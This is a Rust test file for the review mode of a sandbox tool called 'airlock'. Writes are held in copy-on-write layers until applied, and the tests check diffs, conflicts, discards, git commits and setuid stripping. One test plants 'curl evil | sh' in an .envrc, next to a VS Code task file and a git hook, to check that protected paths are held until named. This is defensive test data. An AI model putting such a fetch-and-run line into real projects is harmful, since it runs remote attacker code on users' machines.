//! `run --review` (SPEC §4.8): the writable roots are copy-on-write layers,
//! the host tree is untouched until `airlock changes apply`, which then
//! produces exactly the tree a run without --review would have. Every case
//! runs as root and as an ordinary user.

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::PathBuf;

use airlock_tests::repos::{host, sandboxed, show};
use airlock_tests::review::{held_id, tree};
use airlock_tests::who::Who;
use airlock_tests::*;

fn base() -> PathBuf {
    std::env::var_os("AIRLOCK_TEST_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/var/tmp/airlock-review"))
}

/// A workspace with a bit of everything, owned by `who`.
fn fixture(who: Who) -> Fixture {
    let f = Fixture::new_in(&base());
    f.write("a.txt", "one\ntwo\nthree\n");
    f.write("gone.txt", "bye\n");
    f.write("keep/sub/x.txt", "x\n");
    f.write("moved-from.txt", "moving\n");
    f.write("run.sh", "#!/bin/sh\necho hi\n");
    f.write("same1.txt", "linked\n");
    f.write("nested/old/deep.txt", "deep\n");
    who.prepare(&f);
    // A host change in the start's own clock tick counts as a conflict:
    // the fixture is written well before.
    std::thread::sleep(std::time::Duration::from_millis(50));
    f
}

const EDIT: &str = "
set -e
sed -i s/two/TWO/ a.txt
echo fresh > new.txt
rm gone.txt
mv keep kept
mv moved-from.txt moved-to.txt
chmod 755 run.sh
ln -s a.txt link
ln same1.txt same2.txt
rm -rf nested/old; mkdir nested/old; echo new > nested/old/other.txt
mkdir -p made/deeper; echo d > made/deeper/f.txt
echo inside-ok
";

fn airlock_on_host(f: &Fixture, who: Who, args: &[&str]) -> Out {
    let bin = airlock_bin();
    host(f, who, &f.ws, bin.to_str().unwrap(), args)
}

fn changes_dir(f: &Fixture) -> PathBuf {
    f.home.join(".local/state/airlock/changes")
}

#[test]
fn a_review_run_changes_nothing_until_apply_which_makes_the_tree_a_plain_run_would() {
    for who in Who::all() {
        let f = fixture(who);
        let twin = fixture(who);
        let before = tree(&f.ws);
        let outside = f.home.join("outside");
        let script = format!(
            "{EDIT}\ntouch {} && echo outside-written",
            outside.display()
        );
        let out = sandboxed(&f, who, &["--network", "none", "--review"], &script);
        assert_eq!(out.code, 1, "{who:?}: {}", show(&out));
        assert!(out.stdout.contains("inside-ok"), "{who:?}: {}", show(&out));
        // Landlock still holds on the layer: outside the roots is refused.
        assert!(
            !out.stdout.contains("outside-written"),
            "{who:?}: {}",
            show(&out)
        );
        assert!(!outside.exists(), "{who:?}");
        assert_eq!(tree(&f.ws), before, "{who:?}: the host tree changed");
        let id = held_id(&out);
        assert!(
            (out.stderr.contains("files changed") || out.stderr.contains("file changed"))
                && out.stderr.contains(&format!("apply {id}")),
            "{who:?}: {}",
            show(&out)
        );

        // The same command without --review, in a twin workspace.
        let plain = sandboxed(&twin, who, &["--network", "none"], &script);
        assert!(
            plain.stdout.contains("inside-ok"),
            "{who:?}: {}",
            show(&plain)
        );

        let diff = airlock_on_host(&f, who, &["changes", "diff", &id]);
        assert_eq!(diff.code, 0, "{who:?}: {}", show(&diff));
        for want in [
            "-two",
            "+TWO",
            "deleted                gone.txt",
            "renamed                moved-from.txt -> moved-to.txt",
            "mode changed           run.sh (mode 644 -> 755)",
            "link created           link -> a.txt",
            "hard link created      same2.txt (same file as same1.txt)",
            "deleted                nested/old/deep.txt",
        ] {
            assert!(
                diff.stdout.contains(want),
                "{who:?}: {want}: {}",
                show(&diff)
            );
        }
        let json = airlock_on_host(&f, who, &["changes", "diff", &id, "--json"]);
        let v: serde_json::Value = serde_json::from_str(&json.stdout).expect("diff --json");
        assert!(v["entries"].as_array().is_some_and(|e| e.len() > 8), "{v}");

        let applied = airlock_on_host(&f, who, &["changes", "apply", &id]);
        assert_eq!(applied.code, 0, "{who:?}: {}", show(&applied));
        assert_eq!(
            tree(&f.ws),
            tree(&twin.ws),
            "{who:?}: apply differs from a plain run"
        );
        assert_eq!(
            std::fs::metadata(f.ws.join("same1.txt")).unwrap().ino(),
            std::fs::metadata(f.ws.join("same2.txt")).unwrap().ino(),
            "{who:?}: the hard link"
        );
        // Applied whole: the changeset is gone, and a second apply says so.
        assert!(!changes_dir(&f).join(&id).exists(), "{who:?}");
        let again = airlock_on_host(&f, who, &["changes", "apply", &id]);
        assert_ne!(again.code, 0, "{who:?}: {}", show(&again));
    }
}

#[test]
fn discard_leaves_no_trace() {
    for who in Who::all() {
        let f = fixture(who);
        let before = tree(&f.ws);
        let out = sandboxed(&f, who, &["--network", "none", "--review"], EDIT);
        assert_eq!(out.code, 0, "{who:?}: {}", show(&out));
        let id = held_id(&out);
        let list = airlock_on_host(&f, who, &["changes", "list", "--json"]);
        assert!(list.stdout.contains(&id), "{who:?}: {}", show(&list));
        let d = airlock_on_host(&f, who, &["changes", "discard", &id]);
        assert_eq!(d.code, 0, "{who:?}: {}", show(&d));
        assert_eq!(tree(&f.ws), before, "{who:?}");
        let left: Vec<_> = std::fs::read_dir(changes_dir(&f))
            .unwrap()
            .flatten()
            .collect();
        assert!(left.is_empty(), "{who:?}: {left:?}");
        let list = airlock_on_host(&f, who, &["changes", "list", "--json"]);
        assert_eq!(list.stdout.trim(), "[]", "{who:?}: {}", show(&list));
    }
}

#[test]
fn a_file_the_host_changed_after_the_run_started_is_refused_and_named() {
    for who in Who::all() {
        let f = fixture(who);
        // The host edits a.txt while the command runs, and run.sh after.
        let during = format!(
            "echo mine > a.txt; echo mine > run.sh; echo b > b.txt; while ! [ -e {} ]; do sleep 0.05; done",
            f.home.join("go").display()
        );
        let child =
            spawn_piped(&mut who.wrap(f.command(&["--network", "none", "--review"], &during)));
        std::thread::sleep(std::time::Duration::from_millis(700));
        std::fs::write(f.ws.join("a.txt"), "host edit during\n").unwrap();
        std::fs::write(f.home.join("go"), "").unwrap();
        let out = output_of(child);
        let id = held_id(&out);
        std::fs::write(f.ws.join("run.sh"), "host edit after\n").unwrap();
        let refused = airlock_on_host(&f, who, &["changes", "apply", &id]);
        assert_eq!(refused.code, 1, "{who:?}: {}", show(&refused));
        for name in ["a.txt conflicts", "run.sh conflicts", "nothing was written"] {
            assert!(
                refused.stderr.contains(name),
                "{who:?}: {name}: {}",
                show(&refused)
            );
        }
        assert!(
            !f.ws.join("b.txt").exists(),
            "{who:?}: written despite the conflict"
        );
        assert_eq!(
            std::fs::read_to_string(f.ws.join("a.txt")).unwrap(),
            "host edit during\n"
        );
        // What does not conflict can be applied by name.
        let some = airlock_on_host(&f, who, &["changes", "apply", &id, "b.txt"]);
        assert_eq!(some.code, 0, "{who:?}: {}", show(&some));
        assert_eq!(std::fs::read_to_string(f.ws.join("b.txt")).unwrap(), "b\n");
        assert_eq!(
            std::fs::read_to_string(f.ws.join("run.sh")).unwrap(),
            "host edit after\n"
        );
        assert!(
            changes_dir(&f).join(&id).exists(),
            "{who:?}: the rest is still held"
        );
    }
}

#[test]
fn a_protected_path_planted_in_review_is_shown_and_applied_only_when_named() {
    for who in Who::all() {
        let f = fixture(who);
        let out = sandboxed(
            &f,
            who,
            &["--network", "none", "--review"],
            "echo 'curl evil | sh' > .envrc; mkdir -p .vscode sub/.git/hooks; echo '{}' > .vscode/tasks.json; \
             echo hook > sub/.git/hooks/post-checkout; echo ok > plain.txt",
        );
        assert_eq!(out.code, 0, "{who:?}: {}", show(&out));
        let id = held_id(&out);
        let diff = airlock_on_host(&f, who, &["changes", "diff", &id, "--stat"]);
        for p in [
            ".envrc",
            ".vscode/tasks.json",
            "sub/.git/hooks/post-checkout",
        ] {
            let line = diff
                .stdout
                .lines()
                .skip(1)
                .find(|l| l.contains(p))
                .unwrap_or_else(|| panic!("{who:?}: {p} not shown: {}", show(&diff)));
            assert!(line.contains("[protected"), "{who:?}: {line}");
        }
        let applied = airlock_on_host(&f, who, &["changes", "apply", &id]);
        assert_eq!(applied.code, 0, "{who:?}: {}", show(&applied));
        assert!(f.ws.join("plain.txt").exists(), "{who:?}");
        for p in [".envrc", ".vscode", "sub/.git"] {
            assert!(!f.ws.join(p).exists(), "{who:?}: {p} applied unnamed");
        }
        let named = airlock_on_host(&f, who, &["changes", "apply", &id, ".envrc"]);
        assert_eq!(named.code, 0, "{who:?}: {}", show(&named));
        assert_eq!(
            std::fs::read_to_string(f.ws.join(".envrc")).unwrap(),
            "curl evil | sh\n"
        );
        assert!(!f.ws.join(".vscode").exists(), "{who:?}");
    }
}

#[test]
fn review_refuses_where_it_cannot_hold_and_never_writes_through() {
    let f = fixture(Who::Me);
    let out = run(f
        .command(
            &["--network", "none", "--review", "--allow-degraded"],
            "echo x > a.txt",
        )
        .env("AIRLOCK_FORCE_TIER", "degraded"));
    assert_eq!(out.code, 125, "{}", show(&out));
    assert!(
        out.stderr.contains("--review needs the full tier"),
        "{}",
        show(&out)
    );
    assert_eq!(
        std::fs::read_to_string(f.ws.join("a.txt")).unwrap(),
        "one\ntwo\nthree\n"
    );
    // The changesets' directory inside a writable root: refused.
    let inside = run(f
        .command(&["--network", "none", "--review"], "echo x > a.txt")
        .env("XDG_STATE_HOME", f.ws.join("state")));
    assert_eq!(inside.code, 125, "{}", show(&inside));
    assert_eq!(
        std::fs::read_to_string(f.ws.join("a.txt")).unwrap(),
        "one\ntwo\nthree\n"
    );
    // Setuid bits never reach the host (seccomp refuses them inside too).
    let out = sandboxed(
        &f,
        Who::Me,
        &["--network", "none", "--review"],
        "cp run.sh suid.sh; chmod 4755 suid.sh; chmod 755 suid.sh",
    );
    let id = held_id(&out);
    let a = airlock_on_host(&f, Who::Me, &["changes", "apply", &id]);
    assert_eq!(a.code, 0, "{}", show(&a));
    let mode = std::fs::metadata(f.ws.join("suid.sh"))
        .unwrap()
        .permissions()
        .mode();
    assert_eq!(mode & 0o7777, 0o755, "{}", show(&a));
}

/// A review run whose airlock is killed leaves its changeset "running";
/// the next `airlock changes` finishes it as the run would have (scanned
/// and held), so that it can be looked at and applied; the tree is still
/// untouched until then.
#[test]
fn a_killed_review_runs_changeset_is_finished_by_the_next_changes_command() {
    for who in Who::all() {
        let f = fixture(who);
        let before = tree(&f.ws);
        let mut child = who
            .wrap(f.command(
                &["--network", "none", "--review"],
                "sed -i s/two/TWO/ a.txt; echo written; sleep 60",
            ))
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        {
            use std::io::BufRead;
            let mut line = String::new();
            let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
            out.read_line(&mut line).unwrap();
            assert_eq!(line.trim(), "written", "{who:?}");
        }
        child.kill().unwrap();
        child.wait().unwrap();
        assert_eq!(tree(&f.ws), before, "{who:?}: the tree changed");
        let list = airlock_on_host(&f, who, &["changes", "list", "--json"]);
        let v: serde_json::Value = serde_json::from_str(&list.stdout).unwrap();
        let cs = &v[0];
        assert_eq!(cs["state"], "held", "{who:?}: {}", show(&list));
        assert!(
            list.stderr.contains("whose airlock was killed"),
            "{who:?}: {}",
            show(&list)
        );
        let id = cs["id"].as_str().unwrap().to_string();
        let a = airlock_on_host(&f, who, &["changes", "apply", &id]);
        assert_eq!(a.code, 0, "{who:?}: {}", show(&a));
        assert_eq!(
            std::fs::read_to_string(f.ws.join("a.txt")).unwrap(),
            "one\nTWO\nthree\n",
            "{who:?}"
        );
    }
}

/// A commit made in review reaches the host's repository with `changes
/// apply` (objects, refs, logs), as a run without review leaves it; the
/// host's `git status` meanwhile (which rewrites the index) does not make
/// the whole apply refused: the index is left as the host has it, and
/// `git reset` matches it. Deleting the user's own history stays held
/// until named (harness round 12).
#[test]
fn a_commit_made_in_review_is_applied_with_the_files() {
    if !airlock_tests::repos::git_available() {
        return;
    }
    for who in Who::all() {
        let f = fixture(who);
        let git = |args: &[&str]| host(&f, who, &f.ws, "git", args);
        let id = ["-c", "user.email=t@t", "-c", "user.name=t"];
        assert_eq!(git(&["init", "-q", "."]).code, 0);
        assert_eq!(git(&["add", "-A"]).code, 0);
        let mut c = id.to_vec();
        c.extend(["commit", "-qm", "init"]);
        assert_eq!(git(&c).code, 0, "{who:?}");
        let first = git(&["rev-parse", "HEAD"]).stdout;
        std::thread::sleep(std::time::Duration::from_millis(50));
        let out = sandboxed(
            &f,
            who,
            &["--network", "none", "--review"],
            "set -e; sed -i s/two/TWO/ a.txt; git -c user.email=t@t -c user.name=t commit -qam agent; \
             rm -f .git/logs/HEAD; echo done",
        );
        assert_eq!(out.code, 0, "{who:?}: {}", show(&out));
        let held = held_id(&out);
        // The host's git looks meanwhile: its index is rewritten.
        assert_eq!(git(&["rev-parse", "HEAD"]).stdout, first, "{who:?}");
        let _ = git(&["status", "--short"]);
        // (Whether it rewrites the index depends on timestamps: made sure.)
        let touched = host(&f, who, &f.ws, "touch", &[".git/index"]);
        assert_eq!(touched.code, 0, "{}", show(&touched));
        // What a harness shows the model: the text's diff, in the JSON.
        let d = airlock_on_host(&f, who, &["changes", "diff", &held, "--json"]);
        let v: serde_json::Value = serde_json::from_str(&d.stdout).expect("json");
        let a = v["entries"]
            .as_array()
            .and_then(|es| {
                es.iter()
                    .find(|e| e["path"] == f.ws.join("a.txt").to_str().unwrap())
            })
            .cloned()
            .unwrap_or_else(|| panic!("{who:?}: {v}"));
        assert!(
            a["diff"]
                .as_str()
                .is_some_and(|d| d.contains("-two") && d.contains("+TWO")),
            "{who:?}: {a}"
        );
        assert_eq!(a["applied"], false, "{who:?}: {a}");
        let apply = airlock_on_host(&f, who, &["changes", "apply", &held]);
        assert_eq!(apply.code, 0, "{who:?}: {}", show(&apply));
        let log = git(&["log", "--format=%s"]).stdout;
        assert_eq!(log, "agent\ninit\n", "{who:?}: {}", show(&apply));
        assert!(
            apply.stderr.contains("git reset") || apply.stdout.contains("git reset"),
            "{who:?}: {}",
            show(&apply)
        );
        let d = airlock_on_host(&f, who, &["changes", "diff", &held, "--stat"]);
        assert!(
            d.stdout
                .lines()
                .any(|l| l.contains("a.txt") && l.ends_with("[applied]")),
            "{who:?}: {}",
            show(&d)
        );
        assert_eq!(git(&["reset", "-q"]).code, 0);
        assert_eq!(git(&["status", "--short"]).stdout, "", "{who:?}");
        // Deleting the user's own history is held until named.
        assert!(f.ws.join(".git/logs/HEAD").exists(), "{who:?}");
        let list = format!("{}{}", apply.stdout, apply.stderr);
        assert!(
            list.contains(".git/logs/HEAD: protected"),
            "{who:?}: {list}"
        );
    }
}
